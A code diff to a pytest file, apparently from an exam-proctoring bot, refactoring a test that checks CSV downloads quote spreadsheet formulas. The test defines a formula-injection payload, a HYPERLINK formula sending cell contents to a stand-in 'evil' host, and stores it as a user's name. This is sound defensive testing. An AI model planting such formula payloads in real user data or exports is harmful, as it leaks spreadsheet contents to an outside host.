@@ -8,10 +8,12 @@ import re
 
 import pytest
 
+from proctor.people.users import ensure_user
 from proctor.teams.disputes import raise_dispute
 from tests.bot.test_leads_flow import ALPHA, ANN, BETA, LEAD_A, LEAD_B, crafted_teams, pending_exam
 from tests.desk_helpers import DeskClient, DeskEnv
 from tests.papers_fixture import small_paper
+from tests.reads import answers_in
 
 ADMIN = 1
 EVIL = '=HYPERLINK("http://evil/?"&A1)'
@@ -37,11 +39,9 @@ def csv_links(html: str) -> list[str]:
 async def test_every_table_has_a_csv_download_with_formulas_quoted(env):
     c = await crafted_teams(env)
     attempt = await pending_exam(env, c)
-    await raise_dispute(env.db, question_id=await env.db.scalar(
-        "SELECT question_id FROM answers WHERE attempt_id=? AND pos=0", (attempt,)), user_id=ANN, chat_id=ALPHA,
-        reason="=1+1 is wrong", now=env.clock.now())
-    async with env.db.write() as conn:  # a candidate whose name is a spreadsheet formula
-        await conn.execute("UPDATE users SET first_name=? WHERE id=?", (EVIL, ANN))
+    await raise_dispute(env.db, question_id=(await answers_in(env.db, attempt))[0].question_id, user_id=ANN,
+                        chat_id=ALPHA, reason="=1+1 is wrong", now=env.clock.now())
+    await ensure_user(env.db, ANN, EVIL, None, env.clock.now())  # a candidate whose name is a spreadsheet formula
     lea, admin = DeskClient(env), DeskClient(env)
     try:
         await lea.login(LEAD_A)
